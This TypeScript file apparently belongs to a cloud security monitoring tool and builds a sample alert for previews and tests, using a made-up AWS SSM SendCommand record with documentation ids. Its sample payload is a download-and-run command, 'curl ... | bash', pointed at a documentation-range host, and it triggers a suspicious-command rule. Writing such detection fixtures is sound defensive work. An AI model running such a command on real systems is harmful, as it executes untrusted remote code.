import { defaultSettings } from '../config/load'
import { buildAlert } from '../engine/build-alert'
import { score } from '../engine/score'
import type { Activity } from '../model/activity'
import type { Alert, AlertKind } from '../model/alert'
import type { Finding } from '../model/finding'
import { FINDING_RISK } from '../model/severity'
import type { EpochMs } from '../model/time'
import { firstSeenCaller } from '../rules/first-seen-caller'
import { suspiciousCommand } from '../rules/suspicious-command'
import type { Rule } from '../rules/define-rule'

/** A made-up command, with documentation ids, for previews and for tests of the whole path. */
const sampleActivity = (at: EpochMs): Activity => ({
  id: '00000000-0000-0000-0000-000000000001',
  cloud: 'aws',
  operation: 'ssm:SendCommand',
  family: 'command',
  at,
  outcome: 'succeeded',
  errorCode: null,
  actor: {
    key: 'aws:123456789012:role/Deploy',
    kind: 'role',
    display: 'role/Deploy',
    session: 'jane@example.com',
    human: null,
    mfa: false,
    homeAccount: '123456789012',
    homeTenant: null,
    viaService: null,
    instance: null,
    accessKeyId: null,
    assignedTo: null,
    aliases: [],
  },
  source: { kind: 'address', ip: '203.0.113.7' },
  userAgent: 'aws-cli/2.17.32',
  clientId: null,
  scope: { account: '123456789012', region: 'eu-west-1', tenant: null, resourceGroup: null },
  targets: { kind: 'listed', ids: ['i-0123456789abcdef0'] },
  document: { name: 'AWS-RunShellScript', version: null, owner: null },
  payload: { kind: 'text', text: 'curl -s http://203.0.113.9/setup.sh | bash' },
  rates: null,
  commandId: '00000000-0000-0000-0000-0000000000c1',
  item: null,
  automatic: false,
  omitted: false,
  process: null,
  origin: { format: 'sample', records: ['00000000-0000-0000-0000-000000000001'], addendum: false, hash: '' },
})

const found = (rule: Rule, severity: Finding['severity'], summary: string, novelty: boolean): Finding => ({
  rule: rule.id,
  title: rule.title,
  severity,
  risk: FINDING_RISK[severity],
  summary,
  evidence: [],
  attack: rule.attack,
  novelty,
  routine: false,
  learning: false,
  suppressed: null,
})

/** An alert like a real one about a command that nobody ran. */
export const sampleAlert = (at: EpochMs, kind: AlertKind): Alert => {
  const findings = [
    found(suspiciousCommand, 'high', 'the command text shows download and run', false),
    found(firstSeenCaller, 'medium', 'role/Deploy has not used command operations in 123456789012 within 7 days', true),
  ]
  const network = { asn: null, organization: null, class: 'other', ours: false, term: 'unknown' } as const
  return buildAlert(
    { activity: sampleActivity(at), network, findings, ...score(findings), learning: false, degraded: null },
    defaultSettings(),
    kind,
    0,
  )
}
